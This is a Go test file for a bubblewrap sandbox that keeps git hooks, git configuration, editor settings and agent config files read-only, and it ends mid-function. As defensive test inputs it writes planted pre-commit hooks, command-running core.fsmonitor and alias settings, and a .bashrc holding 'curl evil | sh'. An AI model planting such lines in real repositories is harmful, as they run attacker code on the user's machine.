package bwrap

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/corralhq/corral/sandbox"
)

// git runs git on the host in dir, with no settings of the person's.
func (e *env) git(dir string, args ...string) string {
	e.t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}, args...)...)
	cmd.Dir = dir
	cmd.Env = []string{"HOME=" + e.home, "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1", "LANG=C"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		e.t.Fatalf("git %q: %v\n%s", args, err, out)
	}
	return string(out)
}

// tree lists every path under dir with its type and size, for comparing a
// tree before and after sandboxes: nothing may appear by the mechanism.
func treeListing(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		info, _ := d.Info()
		size := int64(0)
		if info != nil && !d.IsDir() {
			size = info.Size()
		}
		rel, _ := filepath.Rel(dir, p)
		out = append(out, rel+" "+d.Type().String()+" "+strconv.FormatInt(size, 10))
		return nil
	})
	return out
}

func onHost(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

// The working directory is a git repository: its hooks, its configuration
// and the editor settings stay read-only, git work goes on, and the
// protection leaves nothing behind in the tree.
func TestProtectedPathsInRepository(t *testing.T) {
	for _, profile := range []sandbox.Profile{sandbox.ProfileWorkspace, sandbox.ProfileNetwork} {
		t.Run(string(profile), func(t *testing.T) {
			e := newEnv(t)
			e.git(e.work, "init", "-q")
			os.WriteFile(filepath.Join(e.work, "a.txt"), []byte("a\n"), 0o644)
			os.MkdirAll(filepath.Join(e.work, ".vscode"), 0o755)
			os.WriteFile(filepath.Join(e.work, ".vscode", "settings.json"), []byte("{}\n"), 0o644)
			config, _ := os.ReadFile(filepath.Join(e.work, ".git", "config"))
			prof := func(r *sandbox.Request) { r.Profile = profile }

			before := treeListing(t, e.work)
			if o := e.sh(`true`, prof); o.res.ExitCode != 0 || len(o.res.Warnings) != 0 {
				t.Fatalf("true: %s", o)
			}
			if after := treeListing(t, e.work); !slices.Equal(before, after) {
				t.Errorf("the mechanism changed the tree:\nbefore: %q\nafter:  %q", before, after)
			}

			o := e.sh(`
try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
try 'printf "#!/bin/sh\necho PWNED\n" > .git/hooks/pre-commit' hook
try 'echo "[core] fsmonitor = evil" >> .git/config' config
try 'git config core.fsmonitor evil' git-config
try 'mv .git/hooks .git/hooks-old' move-hooks
try 'rm -rf .git/hooks' remove-hooks
try 'mv .git .git-old' move-git
try 'echo "{\"x\":1}" > .vscode/settings.json' vscode
try 'echo "{}" > .vscode/tasks.json' vscode-new
try 'echo x > a.txt && mkdir -p src && echo y > src/b.txt' normal
git add a.txt src && git -c user.name=t -c user.email=t@example.com commit -qm sandboxed && echo COMMITTED
git log --oneline | wc -l`, prof)
			mustContain(t, o, "refused hook", "refused config", "refused git-config", "refused move-hooks", "refused remove-hooks",
				"refused move-git", "refused vscode", "refused vscode-new", "WROTE normal", "COMMITTED")
			if onHost(filepath.Join(e.work, ".git", "hooks", "pre-commit")) {
				t.Errorf("the hook exists on the host")
			}
			if now, _ := os.ReadFile(filepath.Join(e.work, ".git", "config")); string(now) != string(config) {
				t.Errorf(".git/config changed:\n%s", now)
			}
			if b, _ := os.ReadFile(filepath.Join(e.work, ".vscode", "settings.json")); string(b) != "{}\n" {
				t.Errorf(".vscode/settings.json changed: %q", b)
			}
			if log := e.git(e.work, "log", "--format=%s"); !strings.Contains(log, "sandboxed") {
				t.Errorf("the commit is not on the host: %q", log)
			}
			// A shell start-up file the command made is gone afterwards,
			// moved where the person can look at it.
			o = e.sh(`echo 'curl evil | sh' > .bashrc && echo '{}' > .mcp.json && mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json && echo MADE`, prof)
			mustContain(t, o, "MADE")
			for _, p := range []string{".bashrc", ".mcp.json", ".claude"} {
				if onHost(filepath.Join(e.work, p)) {
					t.Errorf("%s made by the command is still in the tree", p)
				}
				if !heldNamed(o.res.Warnings, p) || !slices.ContainsFunc(o.res.Warnings, func(w string) bool { return strings.Contains(w, "ls -A "+filepath.Join(e.state, "quarantine")) }) {
					t.Errorf("no warning about %s: %q", p, o.res.Warnings)
				}
			}
			q, _ := filepath.Glob(filepath.Join(e.state, "quarantine", "*", "*bashrc"))
			if len(q) != 1 {
				t.Errorf("quarantined .bashrc: %q", q)
			} else if b, _ := os.ReadFile(q[0]); string(b) != "curl evil | sh\n" {
				t.Errorf("quarantined .bashrc holds %q", b)
			}
		})
	}
}

// A command that makes a repository where there was none (git init, git
// clone): git works in it; afterwards its hooks are moved out and its
// configuration is replaced by the safe part of it (a clone keeps its
// origin and upstream, so git pull works; what would run programs on the
// host is dropped, named in the note); from the next command on both are
// read-only.
func TestProtectedPathsGitInit(t *testing.T) {
	e := newEnv(t)
	upstream := filepath.Join(e.work, "upstream.git")
	e.git(e.work, "init", "-q", "--bare", upstream)
	seed := filepath.Join(e.base, "seed")
	os.MkdirAll(seed, 0o755)
	e.git(seed, "init", "-q", "-b", "main")
	e.git(seed, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "one")
	e.git(seed, "push", "-q", upstream, "main")
	o := e.sh(`set -e
git init -q
printf '#!/bin/sh\necho HOOK-RAN-IN-SANDBOX\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
git remote add origin https://example.com/a.git
git config core.fsmonitor 'echo PWNED' && git config alias.co '!echo PWNED'
echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && echo COMMITTED
git clone -q upstream.git cloned && echo CLONED`)
	mustContain(t, o, "HOOK-RAN-IN-SANDBOX", "COMMITTED", "CLONED")
	for _, p := range []string{".git/hooks", "cloned/.git/hooks"} {
		if onHost(filepath.Join(e.work, p)) {
			t.Errorf("%s made by the command is still there", p)
		}
	}
	if got := e.git(e.work, "config", "--get", "remote.origin.url"); strings.TrimSpace(got) != "https://example.com/a.git" {
		t.Errorf("the repository's origin after the command: %q", got)
	}
	if b, _ := os.ReadFile(filepath.Join(e.work, ".git", "config")); strings.Contains(string(b), "PWNED") {
		t.Errorf(".git/config kept what runs programs:\n%s", b)
	}
	if got := e.git(filepath.Join(e.work, "cloned"), "config", "--get", "branch.main.remote"); strings.TrimSpace(got) != "origin" {
		t.Errorf("the clone's upstream after the command: %q", got)
	}
	if !slices.ContainsFunc(o.res.Warnings, func(w string) bool {
		return strings.Contains(w, ".git/config (its safe settings (remotes, branches, the repository format) written back, without core.fsmonitor, alias.co")
	}) {
		t.Errorf("no note of the dropped settings: %q", o.res.Warnings)
	}
	if log := e.git(e.work, "log", "--format=%s"); !strings.Contains(log, "first") {
		t.Errorf("the repository does not work without its moved-out files: %q", log)
	}
	e.git(seed, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "two")
	e.git(seed, "push", "-q", upstream, "main")
	before, _ := os.ReadFile(filepath.Join(e.work, ".git", "config"))
	o = e.sh(`
(printf '#!/bin/sh\necho PWNED\n' > .git/hooks/pre-commit) 2>/dev/null && echo WROTE-HOOK
(echo '[core]' > .git/config) 2>/dev/null && echo WROTE-CONFIG
(echo '[core]' >> cloned/.git/config) 2>/dev/null && echo WROTE-CLONE-CONFIG
git remote -v
echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@example.com commit -qm second && echo COMMITTED
git -C cloned pull -q && git -C cloned log --format=%s | head -1`)
	mustContain(t, o, "COMMITTED", "origin\thttps://example.com/a.git", "two")
	mustNotContain(t, o, "WROTE-HOOK", "WROTE-CONFIG", "WROTE-CLONE-CONFIG", "PWNED")
	if ents, err := os.ReadDir(filepath.Join(e.work, ".git", "hooks")); err != nil || len(ents) != 0 {
		t.Errorf(".git/hooks: %v %v, want: an empty directory", ents, err)
	}
	if now, _ := os.ReadFile(filepath.Join(e.work, ".git", "config")); string(now) != string(before) {
		t.Errorf(".git/config changed in the second command:\n%s", now)
	}
	if len(o.res.Warnings) != 0 {
		t.Errorf("warnings: %q", o.res.Warnings)
	}
}

// A repository nested in the working directory, a gitfile (a submodule's
// .git) and a symlink on the way to a protected path are protected too.
func TestProtectedPathsNestedAndSymlinks(t *testing.T) {
	e := newEnv(t)
	e.git(e.work, "init", "-q")
	sub := filepath.Join(e.work, "vendor", "lib")
	os.MkdirAll(sub, 0o755)
	e.git(sub, "init", "-q")
	gitfile := filepath.Join(e.work, "mod", ".git")
	os.MkdirAll(filepath.Dir(gitfile), 0o755)
	os.WriteFile(gitfile, []byte("gitdir: ../.git/modules/mod\n"), 0o644)
	os.MkdirAll(filepath.Join(e.work, "dotfiles"), 0o755)
	os.WriteFile(filepath.Join(e.work, "dotfiles", "bashrc"), []byte("# mine\n"), 0o644)
	os.Symlink("dotfiles/bashrc", filepath.Join(e.work, ".bashrc"))

	o := e.sh(`
try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
try 'echo evil > vendor/lib/.git/hooks/post-checkout' nested-hook
try 'echo "[core]" >> vendor/lib/.git/config' nested-config
try 'echo "gitdir: /elsewhere" > mod/.git' gitfile
try 'echo evil >> .bashrc' through-link
try 'echo mine > dotfiles/other' normal
rm .bashrc && echo evil > .bashrc && echo REPLACED-LINK`)
	mustContain(t, o, "refused nested-hook", "refused nested-config", "refused gitfile", "refused through-link", "WROTE normal", "REPLACED-LINK")
	if b, _ := os.ReadFile(gitfile); string(b) != "gitdir: ../.git/modules/mod\n" {
		t.Errorf("gitfile changed: %q", b)
	}
	if target, err := os.Readlink(filepath.Join(e.work, ".bashrc")); err != nil || target != "dotfiles/bashrc" {
		t.Errorf(".bashrc after the command: %q %v, want: the symlink put back", target, err)
	}
	if b, _ := os.ReadFile(filepath.Join(e.work, "dotfiles", "bashrc")); string(b) != "# mine\n" {
		t.Errorf("the symlink's target changed: %q", b)
	}
	if !slices.ContainsFunc(o.res.Warnings, func(w string) bool { return strings.Contains(w, "the symlink was put back") }) {
		t.Errorf("warnings: %q", o.res.Warnings)
	}
}

// An empty, non-nil list protects nothing; under restricted the working
// directory is read-only anyway.
func TestProtectedPathsSettings(t *testing.T) {
	e := newEnv(t)
	e.git(e.work, "init", "-q")
	o := e.sh(`echo x > .git/hooks/pre-commit && echo '{}' > .mcp.json && echo WROTE`, func(r *sandbox.Request) { r.Protected = []string{} })
	mustContain(t, o, "WROTE")
	if !onHost(filepath.Join(e.work, ".git/hooks/pre-commit")) || !onHost(filepath.Join(e.work, ".mcp.json")) {
		t.Errorf("writes with protection off did not reach the host")
	}
	os.WriteFile(filepath.Join(e.work, "notes.txt"), []byte("mine\n"), 0o644)
	o = e.sh(`(echo x > notes.txt) 2>/dev/null && echo WROTE-NOTES; echo x > .git/hooks/post-commit && echo WROTE-HOOK`, func(r *sandbox.Request) { r.Protected = []string{"notes.txt"} })
	mustContain(t, o, "WROTE-HOOK")
	mustNotContain(t, o, "WROTE-NOTES")
	if _, err := e.backend.Run(context.Background(), &sandbox.Request{Argv: []string{"true"}, Policy: sandbox.Policy{Workdir: e.work, Protected: []string{"../x"}}, Env: e.envv}); err == nil || !strings.Contains(err.Error(), "pattern") {
		t.Errorf("a malformed pattern: %v", err)
	}
}

// --dry-run shows the read-only binds.
func TestProtectedPathsDryRun(t *testing.T) {
	e := newEnv(t)
	e.git(e.work, "init", "-q")
	argv, _, _, err := e.backend.Command(context.Background(), &sandbox.Request{Argv: []string{"true"}, Policy: sandbox.Policy{Workdir: e.work, Profile: sandbox.ProfileWorkspace}, Env: e.envv})
	if err != nil {
		t.Fatal(err)
	}
	line := strings.Join(argv, " ")
	for _, p := range []string{".git/hooks", ".git/config"} {
		q := filepath.Join(e.work, p)
		if !strings.Contains(line, "--ro-bind "+q+" "+q) {
			t.Errorf("argv lacks --ro-bind %s: %s", q, line)
		}
	}
	if !strings.Contains(line, "--bind "+filepath.Join(e.work, ".git")+" "+filepath.Join(e.work, ".git")) {
		t.Errorf("argv does not pin .git: %s", line)
	}
}

// The plan: protected paths are bound after the working directory and
// never over a mask; missing ones are made, watched, or left alone.
func TestPlanProtected(t *testing.T) {
	f := newPlanFix(t)
	git := filepath.Join(f.work, ".git")
	for _, d := range []string{filepath.Join(git, "objects"), filepath.Join(git, "hooks")} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(filepath.Join(git, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.MkdirAll(filepath.Join(f.work, ".idea"), 0o755)
	plan, err := checkedPlan(t, &sandbox.Request{Argv: []string{"true"}, Policy: sandbox.Policy{Workdir: f.work, Profile: sandbox.ProfileWorkspace}}, f.host())
	if err != nil {
		t.Fatal(err)
	}
	idx := func(k mountKind, dest string) int {
		return slices.IndexFunc(plan.Mounts, func(m mount) bool { return m.Kind == k && m.Dest == dest })
	}
	work := idx(mBind, f.work)
	for _, p := range []string{".git/hooks", ".git/config", ".idea"} {
		q := filepath.Join(f.work, p)
		if i := idx(mRoBind, q); i < 0 || i < work {
			t.Errorf("%s: ro-bind at %d, working directory at %d", p, i, work)
		}
	}
	if i := idx(mBind, git); i < work {
		t.Errorf(".git not pinned after the working directory: %d", i)
	}
	if i := idx(mRoBind, filepath.Join(f.work, ".vscode")); i >= 0 {
		t.Errorf("a missing .vscode is bound (a mount point would be left on the host)")
	}
	var created []string
	for _, c := range plan.Create {
		created = append(created, strings.TrimPrefix(c.Path, f.work+"/"))
	}
	if !slices.Equal(created, []string{".git/config"}) {
		t.Errorf("Create = %q, want: .git/config", created)
	}
	for _, p := range []string{".git/hooks", ".git/config", ".idea"} {
		if !plan.protectBefore[filepath.Join(f.work, p)] {
			t.Errorf("%s is not among the paths there before the command: %v", p, plan.protectBefore)
		}
	}
	if plan.protectBefore[filepath.Join(f.work, ".bashrc")] {
		t.Errorf("a missing .bashrc is among the paths there before the command")
	}
	// Nothing under restricted; nothing with an empty list.
	for _, req := range []*sandbox.Request{
		{Argv: []string{"true"}, Policy: sandbox.Policy{Workdir: f.work, Profile: sandbox.ProfileRestricted}},
		{Argv: []string{"true"}, Policy: sandbox.Policy{Workdir: f.work, Profile: sandbox.ProfileWorkspace, Protected: []string{}}},
	} {
		plan, err := checkedPlan(t, req, f.host())
		if err != nil {
			t.Fatal(err)
		}
		if len(plan.Create)+len(plan.Links)+len(plan.protectRoots) > 0 || slices.ContainsFunc(plan.Mounts, func(m mount) bool { return m.Dest == filepath.Join(f.work, ".git/hooks") }) {
			t.Errorf("profile %s, protected %q: %+v", req.Profile, req.Protected, plan)
		}
	}
}

// Missing hooks and config are made in the git directories a .git stands
// for (a bare repository) and in submodules' at depth, not in a linked
// worktree's git directory (git reads its common directory's).
func TestPlanProtectedGitDirs(t *testing.T) {
	f := newPlanFix(t)
	for _, d := range []string{".git/objects", ".git/refs", ".git/hooks", ".git/worktrees/wt", "wt", "remote.git/objects", "remote.git/refs",
		".git/modules/vendor/lib/objects", ".git/modules/vendor/lib/refs"} {
		os.MkdirAll(filepath.Join(f.work, d), 0o755)
	}
	for p, content := range map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "", ".git/worktrees/wt/HEAD": "ref: refs/heads/wt\n",
		".git/worktrees/wt/commondir": "../..\n", "wt/.git": "gitdir: ../.git/worktrees/wt\n", "remote.git/HEAD": "ref: refs/heads/main\n",
		".git/modules/vendor/lib/HEAD": "ref: refs/heads/main\n"} {
		os.WriteFile(filepath.Join(f.work, p), []byte(content), 0o644)
	}
	plan, err := checkedPlan(t, &sandbox.Request{Argv: []string{"true"}, Policy: sandbox.Policy{Workdir: f.work, Profile: sandbox.ProfileWorkspace}}, f.host())
	if err != nil {
		t.Fatal(err)
	}
	var created []string
	for _, c := range plan.Create {
		created = append(created, strings.TrimPrefix(c.Path, f.work+"/"))
	}
	slices.Sort(created)
	if want := []string{".git/modules/vendor/lib/config", ".git/modules/vendor/lib/hooks", "remote.git/config", "remote.git/hooks"}; !slices.Equal(created, want) {
		t.Errorf("Create = %q, want: %q", created, want)
	}
	for _, p := range []string{".git/worktrees/wt/commondir", "wt/.git", ".git/hooks", ".git/config"} {
		if !slices.ContainsFunc(plan.Mounts, func(m mount) bool { return m.Kind == mRoBind && m.Dest == filepath.Join(f.work, p) }) {
			t.Errorf("%s is not bound read-only", p)
		}
	}
}

// A read-write bind is a writable directory too, also when it is seen at
// another path; a bound FIFO is not scanned (opening it would block).
func TestProtectedPathsInBinds(t *testing.T) {
	e := newEnv(t)
	data := filepath.Join(e.base, "data")
	os.MkdirAll(data, 0o755)
	e.git(data, "init", "-q")
	fifo := filepath.Join(e.base, "fifo")
	if err := unix.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	o := e.sh(`
cd /tmp/data || exit 1
(echo evil > .git/hooks/pre-commit) 2>/dev/null && echo WROTE-HOOK
(echo evil >> .git/config) 2>/dev/null && echo WROTE-CONFIG
echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm in-bind && echo COMMITTED`,
		func(r *sandbox.Request) {
			r.Binds = []sandbox.Bind{{Src: data, Dest: "/tmp/data"}, {Src: fifo}}
		})
	mustContain(t, o, "COMMITTED")
	mustNotContain(t, o, "WROTE-HOOK", "WROTE-CONFIG")
	if onHost(filepath.Join(data, ".git/hooks/pre-commit")) {
		t.Errorf("the hook reached the host")
	}
}

// What a command makes that no list of missing paths names is found by the
// scan after it: a repository made in an existing subdirectory (whose
// .git would take over the person's git there) and a new submodule git
// directory lose their hooks and configuration.
func TestProtectedPathsAppearDuringCommand(t *testing.T) {
	e := newEnv(t)
	e.git(e.work, "init", "-q")
	os.MkdirAll(filepath.Join(e.work, "src"), 0o755)
	o := e.sh(`set -e
git init -q src && git -C src config core.fsmonitor 'echo PWNED'
mkdir -p .git/modules/lib/hooks && echo 'ref: refs/heads/main' > .git/modules/lib/HEAD && echo evil > .git/modules/lib/hooks/post-checkout
echo DONE`)
	mustContain(t, o, "DONE")
	for _, p := range []string{"src/.git/hooks", ".git/modules/lib/hooks"} {
		if onHost(filepath.Join(e.work, p)) {
			t.Errorf("%s made by the command is still there", p)
		}
	}
	if b, err := os.ReadFile(filepath.Join(e.work, "src/.git/config")); err != nil || strings.Contains(string(b), "PWNED") {
		t.Errorf("src/.git/config after the command: %v, want its safe part only:\n%s", err, b)
	}
	for _, p := range []string{"src/.git/HEAD", ".git/modules/lib/HEAD"} {
		if !onHost(filepath.Join(e.work, p)) {
			t.Errorf("%s was moved out too", p)
		}
	}
	if n := len(o.res.Warnings); n != 1 || !heldNamed(o.res.Warnings, "src/.git/hooks") || !heldNamed(o.res.Warnings, ".git/modules/lib/hooks") {
		t.Errorf("%d warnings, want one line naming what was held: %q", n, o.res.Warnings)
	}
}

// Protected binds go by descriptor where bwrap can, numbered after bwrap's
// own; a source swapped for a symlink after the plan is refused; the
// descriptors never reach the command.
func TestProtectedBindFDs(t *testing.T) {
	base := testBase(t)
	dir, file := filepath.Join(base, "dir"), filepath.Join(base, "file")
	os.MkdirAll(dir, 0o755)
	os.WriteFile(file, nil, 0o644)
	mk := func() *Plan {
		return &Plan{Mounts: []mount{
			{Kind: mRoBind, Src: "/", Dest: "/"},
			{Kind: mBind, Src: dir, Dest: dir, ViaFD: true},
			{Kind: mRoBind, Src: file, Dest: "/x/file", ViaFD: true},
		}}
	}
	plan := mk()
	files, err := openBindFDs(plan, &Binary{BindFD: true}, 7, nil)
	if err != nil || len(files) != 2 {
		t.Fatalf("openBindFDs: %v, %d files", err, len(files))
	}
	for _, f := range files {
		f.Close()
	}
	argv := strings.Join(Argv(plan, Features{}, -1, []string{"true"}), " ")
	if !strings.Contains(argv, "--ro-bind / /") || !strings.Contains(argv, "--bind-fd 7 "+dir) || !strings.Contains(argv, "--ro-bind-fd 8 /x/file") {
		t.Errorf("argv: %s", argv)
	}
	plan = mk()
	if files, err := openBindFDs(plan, &Binary{}, 7, nil); err != nil || files != nil || plan.Mounts[1].FD != 0 {
		t.Errorf("without bind-fd: %v %v %+v", err, files, plan.Mounts)
	}
	// Swapped for a symlink, the source itself or a directory on its way.
	os.Rename(dir, dir+".real")
	os.Symlink(dir+".real", dir)
	if _, err := openBindFDs(mk(), &Binary{BindFD: true}, 7, nil); err == nil || !strings.Contains(err.Error(), "run the command again") {
		t.Errorf("a source swapped for a symlink: %v", err)
	}
	os.Remove(dir)
	os.Rename(dir+".real", dir)
	sub := filepath.Join(base, "sub")
	os.MkdirAll(filepath.Join(base, "elsewhere", "file"), 0o755)
	os.Symlink(filepath.Join(base, "elsewhere"), sub)
	plan = &Plan{Mounts: []mount{{Kind: mRoBind, Src: filepath.Join(sub, "file"), Dest: "/x", ViaFD: true}}}
	if _, err := openBindFDs(plan, &Binary{BindFD: true}, 7, nil); err == nil {
		t.Errorf("a source through a symlinked directory was opened")
	}
}

func TestProtectedBindFDsNotInherited(t *testing.T) {
	e := newEnv(t)
	e.git(e.work, "init", "-q")
	bin, err := e.backend.Binary(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	help, _ := exec.Command(bin.Path, "--help").CombinedOutput()
	if bin.BindFD != strings.Contains(string(help), "--ro-bind-fd") {
		t.Errorf("BindFD = %v, but --help says %q", bin.BindFD, help)
	}
	o := e.sh(`ls /proc/self/fd | tr '\n' ' '; (echo x > .git/hooks/pre-commit) 2>/dev/null || echo REFUSED`)
	mustContain(t, o, "0 1 2 3 REFUSED")
}

// Submodules whose name has a slash, and submodules of submodules: their
// git directories below .git/modules keep hooks and configuration
// read-only, git work in them goes on, and git on the host runs nothing
// the sandbox planted. One made during the command loses its hooks and
// configuration afterwards.
func TestProtectedPathsSubmodulesAnyDepth(t *testing.T) {
	e := newEnv(t)
	e.submodules("vendor/lib")
	mods := filepath.Join(e.work, ".git", "modules")
	config, _ := os.ReadFile(filepath.Join(mods, "vendor", "lib", "config"))

	o := e.sh(`
try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
try 'printf "[core]\n\tfsmonitor = \"touch ../PWNED; false\"\n" >> .git/modules/vendor/lib/config' config
try 'printf "#!/bin/sh\ntouch PWNED\n" > .git/modules/vendor/lib/hooks/post-checkout' hook
try 'git -C vendor/lib config core.fsmonitor "touch PWNED; false"' git-config
try 'echo "[core]" >> .git/modules/vendor/lib/modules/inner/config' nested-config
try 'echo evil > .git/modules/vendor/lib/modules/inner/hooks/pre-commit' nested-hook
try 'mv .git/modules/vendor .git/modules/v2' move
cd vendor/lib && echo y > y.txt && git add y.txt && git -c user.name=t -c user.email=t@example.com commit -qm sub && echo COMMITTED
cd inner && git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m inner && echo COMMITTED-INNER`)
	mustContain(t, o, "refused config", "refused hook", "refused git-config", "refused nested-config", "refused nested-hook", "refused move", "COMMITTED", "COMMITTED-INNER")
	if now, _ := os.ReadFile(filepath.Join(mods, "vendor", "lib", "config")); string(now) != string(config) {
		t.Errorf("the submodule's config changed:\n%s", now)
	}
	for _, p := range []string{"vendor/lib/hooks/post-checkout", "vendor/lib/modules/inner/hooks/pre-commit"} {
		if onHost(filepath.Join(mods, p)) {
			t.Errorf(".git/modules/%s exists on the host", p)
		}
	}
	e.git(e.work, "status")
	e.git(filepath.Join(e.work, "vendor", "lib"), "status")
	if log := e.git(filepath.Join(e.work, "vendor", "lib"), "log", "--format=%s"); !strings.Contains(log, "sub") {
		t.Errorf("the submodule's commit is not on the host: %q", log)
	}
	for _, p := range []string{"PWNED", "vendor/PWNED", "vendor/lib/PWNED"} {
		if onHost(filepath.Join(e.work, p)) {
			t.Errorf("%s: a command the sandbox planted ran on the host", p)
		}
	}

	// A submodule git directory made during the command, at depth.
	o = e.sh(`set -e
d=.git/modules/third/party/lib
mkdir -p $d/hooks $d/objects $d/refs && echo 'ref: refs/heads/main' > $d/HEAD
echo evil > $d/hooks/post-checkout && echo '[core]' > $d/config
echo DONE`)
	mustContain(t, o, "DONE")
	for _, p := range []string{"third/party/lib/hooks", "third/party/lib/config"} {
		if onHost(filepath.Join(mods, p)) {
			t.Errorf(".git/modules/%s made by the command is still there", p)
		}
	}
	if !onHost(filepath.Join(mods, "third/party/lib/HEAD")) {
		t.Errorf("HEAD was moved out too")
	}
	if n := len(o.res.Warnings); n != 1 || !heldNamed(o.res.Warnings, ".git/modules/third/party/lib/hooks") || !heldNamed(o.res.Warnings, ".git/modules/third/party/lib/config") {
		t.Errorf("%d warnings, want one line naming what was held: %q", n, o.res.Warnings)
	}
}

// Git directories not named .git: a separate git directory (the top's
// .git is a gitfile), a nested repository whose gitfile points into the
// tree, a bare repository. Their hooks and configuration are read-only,
// commits and pushes work, and a bare repository the command makes loses
// its hooks and configuration afterwards.
func TestProtectedPathsOtherGitDirs(t *testing.T) {
	e := newEnv(t)
	e.git(e.work, "init", "-q", "--separate-git-dir="+filepath.Join(e.work, ".gd"), e.work)
	nested := filepath.Join(e.work, "nested")
	os.MkdirAll(nested, 0o755)
	e.git(e.work, "init", "-q", "--separate-git-dir="+filepath.Join(e.work, "gd"), nested)
	os.WriteFile(filepath.Join(nested, ".git"), []byte("gitdir: ../gd\n"), 0o644)
	e.git(e.work, "init", "-q", "--bare", "remote.git")
	os.RemoveAll(filepath.Join(e.work, "remote.git", "hooks")) // made empty, then read-only
	os.WriteFile(filepath.Join(e.work, "a.txt"), []byte("a\n"), 0o644)
	os.WriteFile(filepath.Join(nested, "n.txt"), []byte("n\n"), 0o644)

	o := e.sh(`
try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
hook='#!/bin/sh\ntouch "$HOME/../PWNED"\n'
try 'printf "$hook" > .gd/hooks/pre-commit && chmod +x .gd/hooks/pre-commit' top-hook
try 'echo "[core] fsmonitor = evil" >> .gd/config' top-config
try 'printf "$hook" > gd/hooks/pre-commit && chmod +x gd/hooks/pre-commit' nested-hook
try 'echo "[core] fsmonitor = evil" >> gd/config' nested-config
try 'mkdir -p remote.git/hooks && printf "$hook" > remote.git/hooks/post-receive && chmod +x remote.git/hooks/post-receive' bare-hook
try 'echo "[core] fsmonitor = evil" >> remote.git/config' bare-config
try 'mv .gd .gd2' move-gd
try 'mv remote.git r.git' move-bare
export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.com GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.com
git add a.txt && git commit -qm top && echo COMMITTED-TOP
(cd nested && git add n.txt && git commit -qm nested) && echo COMMITTED-NESTED
git push -q ./remote.git HEAD:refs/heads/main && echo PUSHED
git init -q --bare made.git && printf "$hook" > made.git/hooks/post-receive && chmod +x made.git/hooks/post-receive && echo MADE`)
	mustContain(t, o, "refused top-hook", "refused top-config", "refused nested-hook", "refused nested-config", "refused bare-hook", "refused bare-config",
		"refused move-gd", "refused move-bare", "COMMITTED-TOP", "COMMITTED-NESTED", "PUSHED", "MADE")
	for _, p := range []string{".gd/hooks/pre-commit", "gd/hooks/pre-commit", "remote.git/hooks/post-receive", "made.git/hooks"} {
		if onHost(filepath.Join(e.work, p)) {
			t.Errorf("%s is on the host", p)
		}
	}
	// The bare repository's configuration: its safe part, written back.
	if got := e.git(e.work, "config", "--file", "made.git/config", "--get", "core.bare"); strings.TrimSpace(got) != "true" {
		t.Errorf("made.git/config after the command: core.bare %q, want its safe part kept", got)
	}
	for _, p := range []string{"made.git/hooks", "made.git/config"} {
		if !heldNamed(o.res.Warnings, p) {
			t.Errorf("no warning about %s: %q", p, o.res.Warnings)
		}
	}
	if ents, err := os.ReadDir(filepath.Join(e.work, "remote.git", "hooks")); err != nil || len(ents) != 0 {
		t.Errorf("remote.git/hooks: %v %v, want: an empty directory", ents, err)
	}
	for _, p := range []string{".gd/config", "gd/config", "remote.git/config"} {
		if b, _ := os.ReadFile(filepath.Join(e.work, p)); strings.Contains(string(b), "fsmonitor") {
			t.Errorf("%s changed: %s", p, b)
		}
	}
	// Git on the host: commits, pushes; no hook of the sandbox's runs.
	e.git(e.work, "commit", "-q", "--allow-empty", "-m", "host")
	e.git(nested, "commit", "-q", "--allow-empty", "-m", "host")
	e.git(e.work, "push", "-q", "remote.git", "HEAD:refs/heads/host")
	e.git(e.work, "push", "-q", "made.git", "HEAD:refs/heads/host")
	if onHost(filepath.Join(e.home, "..", "PWNED")) {
		t.Errorf("a hook the sandbox planted ran on the host")
	}
	if log := e.git(nested, "log", "--format=%s"); !strings.Contains(log, "nested") {
		t.Errorf("the nested commit is not on the host: %q", log)
	}
}

// runErr runs a shell script in a sandbox and returns Run's error.
func (e *env) runErr(script string) (*sandbox.Result, error) {
	req := &sandbox.Request{Argv: []string{"/bin/sh", "-c", script}, Env: e.envv, Policy: sandbox.Policy{Workdir: e.work, Profile: sandbox.ProfileWorkspace, Limits: sandbox.DefaultLimits}, Stdout: io.Discard, Stderr: io.Discard, Timeout: 60 * time.Second}
	return e.backend.Run(context.Background(), req)
}

// submoduleRepo makes the working directory a repository with a submodule
// at path (which has a submodule of its own, inner) and a nested
// repository at sub.
func (e *env) submoduleRepo(path string) {
	e.submodules(path)
	os.MkdirAll(filepath.Join(e.work, "sub"), 0o755)
	e.git(filepath.Join(e.work, "sub"), "init", "-q")
}

// submodules makes the working directory a repository with a submodule at
// path, which has a submodule of its own, inner, and commits them.
func (e *env) submodules(path string) {
	inner, lib := filepath.Join(e.base, "src", "inner"), filepath.Join(e.base, "src", "lib")
